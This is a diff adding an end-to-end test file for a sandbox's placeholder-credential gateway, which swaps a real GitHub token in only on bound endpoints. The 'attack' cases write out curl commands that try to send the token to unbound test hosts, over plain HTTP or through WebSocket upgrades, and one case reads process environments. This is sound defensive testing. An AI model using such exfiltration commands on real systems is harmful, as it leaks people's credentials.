@@ -1,0 +1,226 @@
+import { describe, it, expect, beforeAll, afterAll } from 'vitest'
+import { mkdirSync, writeFileSync, readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { randomBytes } from 'node:crypto'
+import { cli, hostDir, uniqueName, podman, TEST_HOME } from '../helpers/cli.js'
+import { hostAddress, writePolicyText, gatewayHosts, gatewayName, expectLogged, deleteSandboxes, sh, logs, Upstream } from '../helpers/attack.js'
+import { TlsUpstream } from '../helpers/tls-upstream.js'
+
+/**
+ * Placeholder credentials (issue 12) end to end: a real sandbox whose agent holds a placeholder for
+ * a provider's GITHUB_TOKEN, the real gateway container swapping the real value in on the bound
+ * endpoint (`credential_binding`) of an HTTPS upstream on the test address, and refusing it
+ * everywhere else. What reached the upstream is read from its own record, never from the sandbox.
+ * One placeholder sandbox is shared by every case; the env-mode case makes (and deletes) its own.
+ */
+const H = hostAddress()
+const VALUE = `ghp_${randomBytes(18).toString('hex')}`
+const provider = `ph-${process.pid.toString(36)}`
+let up: TlsUpstream
+let plain: Upstream
+let name = ''
+let envName = ''
+let cfg: string
+const env = () => ({ XDG_CONFIG_HOME: cfg })
+const NAMES = ['bound.cred.test', 'other.cred.test']
+const url = (host: string, path: string) => `https://${host}:${up.port}${path}`
+const curl = (args: string) => sh(name, `curl -sS --max-time 10 -w '\\n%{http_code}' ${args}`)
+const seenValue = () => up.requests.filter(r => JSON.stringify(r).includes(VALUE))
+
+beforeAll(async () => {
+  const dir = hostDir('credph')
+  up = await TlsUpstream.start({ dir, caName: 'credentials e2e upstream CA' })
+  plain = await Upstream.start()
+  cfg = join(dir, 'cfg')
+  mkdirSync(join(cfg, 'podshell'), { recursive: true })
+  writeFileSync(join(cfg, 'podshell', 'config.yaml'), `tls:\n  extra_ca_files:\n    - ${up.caFile}\n`)
+  const p = await cli(['provider', 'create', '--name', provider, '--type', 'generic', '--credential', 'GITHUB_TOKEN'], { env: { GITHUB_TOKEN: VALUE } })
+  expect(p.code, p.stderr).toBe(0)
+  const ip = `[${H}/32]`
+  const policy = writePolicyText(`version: 1
+network_policies:
+  api:
+    name: api
+    endpoints:
+      - { host: bound.cred.test, port: ${up.port}, protocol: rest, access: full, path: "/api/**", credential_binding: { provider: ${provider} }, allowed_ips: ${ip} }
+      - { host: bound.cred.test, port: ${up.port}, protocol: rest, access: full, path: "/body/**", credential_binding: { provider: ${provider} }, request_body_credential_rewrite: true, allowed_ips: ${ip} }
+      - { host: bound.cred.test, port: ${up.port}, protocol: rest, access: full, allowed_ips: ${ip} }
+      - { host: other.cred.test, port: ${up.port}, protocol: rest, access: full, allowed_ips: ${ip} }
+      - { host: ${H}, port: ${plain.port} }
+`)
+  name = uniqueName('credph')
+  const r = await cli(['sandbox', 'create', '--name', name, '--provider', provider, '--policy', policy, '--detach'], { env: env() })
+  expect(r.code, r.stderr).toBe(0)
+  expect(r.stderr).not.toMatch(/credential-mode env/)
+  await gatewayHosts(NAMES.map(n => [H, n] as [string, string]))
+})
+
+afterAll(async () => {
+  await deleteSandboxes([name, envName].filter(Boolean))
+  await cli(['provider', 'delete', '--force', provider])
+  await Promise.all([up?.close(), plain?.close()])
+})
+
+describe('placeholder credentials (issue 12)', () => {
+  it('the agent holds a same-shaped placeholder: a ghp_-checking client accepts it, the value is not it', async () => {
+    const r = await sh(name, 'case "$GITHUB_TOKEN" in ghp_*) echo "shape-ok ${#GITHUB_TOKEN}";; *) echo "bad-shape";; esac; printf %s "$GITHUB_TOKEN"')
+    expect(r.code, r.stderr).toBe(0)
+    const [check, placeholder] = r.stdout.split('\n')
+    expect(check).toBe(`shape-ok ${VALUE.length}`)
+    expect(placeholder).toMatch(/^ghp_[A-Za-z0-9]+$/)
+    expect(placeholder).toHaveLength(VALUE.length)
+    expect(placeholder).not.toBe(VALUE)
+  })
+
+  it('bound endpoint: Bearer, custom header, path segment and query value reach the upstream as the real value', async () => {
+    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" -H "X-Api-Token: $GITHUB_TOKEN" "${url('bound.cred.test', '/api/p/')}$GITHUB_TOKEN?tok=$GITHUB_TOKEN&x=1"`)
+    expect(r.code, r.stderr).toBe(0)
+    expect(r.stdout).toBe('upstream-ok\n200')
+    const got = up.requests.find(q => q.url.startsWith('/api/p/'))!
+    expect(got.url).toBe(`/api/p/${VALUE}?tok=${VALUE}&x=1`)
+    const h = got.rawHeaders
+    expect(h[h.findIndex(x => x.toLowerCase() === 'authorization') + 1]).toBe(`Bearer ${VALUE}`)
+    expect(h[h.findIndex(x => x.toLowerCase() === 'x-api-token') + 1]).toBe(VALUE)
+    const line = await expectLogged(name, /ALLOWED GET/, /\/api\/p\/ghp_/)
+    expect(line).not.toContain(VALUE)
+  })
+
+  it('bound endpoint: Basic auth is decoded, substituted and re-encoded', async () => {
+    const r = await curl(`-u "x-access-token:$GITHUB_TOKEN" ${url('bound.cred.test', '/api/basic')}`)
+    expect(r.stdout).toBe('upstream-ok\n200')
+    const got = up.requests.find(q => q.url === '/api/basic')!
+    const auth = got.rawHeaders[got.rawHeaders.findIndex(x => x.toLowerCase() === 'authorization') + 1]!
+    expect(Buffer.from(auth.replace(/^Basic /, ''), 'base64').toString()).toBe(`x-access-token:${VALUE}`)
+  })
+
+  it('attack #1: placeholder to an allowed but unbound host → 403 credential_endpoint_mismatch, nothing forwarded, logged', async () => {
+    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" ${url('other.cred.test', '/exfil-1')}`)
+    const [body, status] = r.stdout.split('\n')
+    expect(status).toBe('403')
+    expect(JSON.parse(body!)).toEqual({ error: 'credential_endpoint_mismatch', message: 'Credential is not authorized for this request endpoint' })
+    expect(up.seen('/exfil-1')).toBe(0)
+    await expectLogged(name, /DENIED/, /other\.cred\.test/, /credential_endpoint_mismatch/)
+  })
+
+  it("attack #2: placeholder in a query to the bound host's unbound path → 403, nothing forwarded, logged", async () => {
+    const r = await curl(`"${url('bound.cred.test', '/exfil-2')}?t=$GITHUB_TOKEN"`)
+    expect(r.stdout.split('\n')[1]).toBe('403')
+    expect(up.seen('/exfil-2')).toBe(0)
+    await expectLogged(name, /DENIED/, /\/exfil-2/, /credential_endpoint_mismatch.*in query/)
+  })
+
+  it('attack #3: placeholder in a request body without opt-in → forwarded inert (the placeholder, never the value), logged', async () => {
+    const r = await curl(`-X POST --data "token=$GITHUB_TOKEN" ${url('bound.cred.test', '/api/exfil-3')}`)
+    expect(r.stdout).toBe('upstream-ok\n200')
+    const got = up.requests.find(q => q.url === '/api/exfil-3')!
+    expect(got.body).toMatch(/^token=ghp_[A-Za-z0-9]+$/)
+    expect(got.body).not.toContain(VALUE)
+    await expectLogged(name, /HTTP:POST/, /\/api\/exfil-3/)
+  })
+
+  it('opt-in endpoint (request_body_credential_rewrite): the body is substituted; over 256 KiB it is refused (413), not forwarded', async () => {
+    const r = await curl(`-X POST --data "token=$GITHUB_TOKEN" ${url('bound.cred.test', '/body/ok')}`)
+    expect(r.stdout).toBe('upstream-ok\n200')
+    expect(up.requests.find(q => q.url === '/body/ok')!.body).toBe(`token=${VALUE}`)
+    const big = await sh(name, `head -c 300000 /dev/zero | tr '\\0' a > /tmp/big && curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $GITHUB_TOKEN" --data-binary @/tmp/big ${url('bound.cred.test', '/body/big')}`)
+    expect(big.stdout).toBe('413')
+    expect(up.seen('/body/big')).toBe(0)
+    await expectLogged(name, /DENIED/, /\/body\/big/)
+  })
+
+  it('attack #4: placeholder over plain HTTP → inert (the upstream sees the placeholder), logged', async () => {
+    const r = await sh(name, `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GITHUB_TOKEN" http://${H}:${plain.port}/exfil-4`)
+    expect(r.stdout).toBe('200')
+    const got = plain.requests.find(q => q.url === '/exfil-4')!
+    expect(String(got.headers.authorization)).toMatch(/^Bearer ghp_[A-Za-z0-9]+$/)
+    expect(String(got.headers.authorization)).not.toContain(VALUE)
+    await expectLogged(name, /\/exfil-4/)
+  })
+
+  it('attack #5: placeholder on a WebSocket upgrade to an unbound host → 403 credential_endpoint_mismatch, nothing forwarded, logged', async () => {
+    const r = await sh(name, `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' -H "Authorization: Bearer $GITHUB_TOKEN" ${url('other.cred.test', '/ws-exfil-5')}`)
+    expect(r.stdout).toBe('403')
+    expect(up.seen('/ws-exfil-5')).toBe(0)
+    await expectLogged(name, /DENIED/, /\/ws-exfil-5/, /credential_endpoint_mismatch/)
+  })
+
+  it('leak check: the real value is in no podshell file, no podman inspect, no /proc/*/environ of the sandbox, no log', async () => {
+    const hits: string[] = []
+    const walk = (d: string) => {
+      let entries
+      try {
+        entries = readdirSync(d, { withFileTypes: true })
+      } catch {
+        return
+      }
+      for (const e of entries) {
+        const p = join(d, e.name)
+        if (e.isDirectory()) walk(p)
+        else if (e.isFile()) {
+          try {
+            if (readFileSync(p).includes(VALUE)) hits.push(p)
+          } catch {
+            // unreadable (not ours): skipped
+          }
+        }
+      }
+    }
+    walk(TEST_HOME)
+    expect(hits).toEqual([])
+    const inspect = await podman(['inspect', `podshell.${name}.agent`])
+    expect(inspect.code).toBe(0)
+    expect(inspect.stdout).not.toContain(VALUE)
+    const environ = await sh(name, "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null; echo END")
+    expect(environ.stdout).toContain('GITHUB_TOKEN=ghp_')
+    expect(environ.stdout).not.toContain(VALUE)
+    expect(await logs(name)).not.toContain(VALUE)
+    const gw = await podman(['logs', await gatewayName()])
+    expect(gw.stdout + gw.stderr).not.toContain(VALUE)
+    const json = await cli(['sandbox', 'get', name, '-o', 'json'])
+    expect(json.stdout).not.toContain(VALUE)
+    const pj = await cli(['provider', 'get', provider, '-o', 'json'])
+    expect(pj.stdout).not.toContain(VALUE)
+    // the value reached the upstream only on bound endpoints
+    expect(seenValue().every(q => q.url.startsWith('/api/') || q.url.startsWith('/body/'))).toBe(true)
+  })
+
+  it('--credential-mode env: the real value as an env var, with a one-line warning naming it', async () => {
+    envName = uniqueName('credenv')
+    const r = await cli(['sandbox', 'create', '--name', envName, '--provider', provider, '--credential-mode', 'env', '--detach'], { env: env() })
+    expect(r.code, r.stderr).toBe(0)
+    expect(r.stderr).toMatch(/^warning: --credential-mode env: the agent gets the real values of GITHUB_TOKEN as environment variables$/m)
+    const v = await cli(['sandbox', 'exec', '-n', envName, '--', 'sh', '-c', 'printf %s "$GITHUB_TOKEN"'])
+    expect(v.stdout).toBe(VALUE)
+  })
+
+  it('gateway restart: placeholders fail closed (403 credential_unavailable) until the next podshell command restores the values from the Podman secrets', async () => {
+    expect((await podman(['restart', '-t', '0', await gatewayName()])).code).toBe(0)
+    await gatewayHosts(NAMES.map(n => [H, n] as [string, string]))
+    // Straight into the agent container (no podshell command, so nothing restores the values yet).
+    const direct = `curl -sS --max-time 5 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GITHUB_TOKEN" ${url('bound.cred.test', '/api/after-restart')}`
+    let status = ''
+    for (let i = 0; i < 40 && status !== '403'; i++) {
+      status = (await podman(['exec', `podshell.${name}.agent`, 'sh', '-c', direct])).stdout.trim()
+      if (status !== '403') await new Promise(r => setTimeout(r, 250))
+    }
+    expect(status).toBe('403')
+    expect(up.seen('/api/after-restart')).toBe(0)
+    await expectLogged(name, /DENIED/, /\/api\/after-restart/, /credential_unavailable/)
+    // `sandbox exec` ensures the gateway: it reads the values back and substitution works again.
+    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" ${url('bound.cred.test', '/api/restored')}`)
+    expect(r.stdout).toBe('upstream-ok\n200')
+    const got = up.requests.find(q => q.url === '/api/restored')!
+    expect(got.rawHeaders[got.rawHeaders.findIndex(x => x.toLowerCase() === 'authorization') + 1]).toBe(`Bearer ${VALUE}`)
+  })
+
+  it('provider deleted while the sandbox runs → its placeholder stops resolving (403), nothing forwarded, logged', async () => {
+    const d = await cli(['provider', 'delete', '--force', provider])
+    expect(d.code, d.stderr).toBe(0)
+    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" ${url('bound.cred.test', '/api/after-delete')}`)
+    const [body, status] = r.stdout.split('\n')
+    expect(status).toBe('403')
+    expect(JSON.parse(body!).error).toBe('credential_unavailable')
+    expect(up.seen('/api/after-delete')).toBe(0)
+    await expectLogged(name, /DENIED/, /credential_unavailable/)
+  })
+})
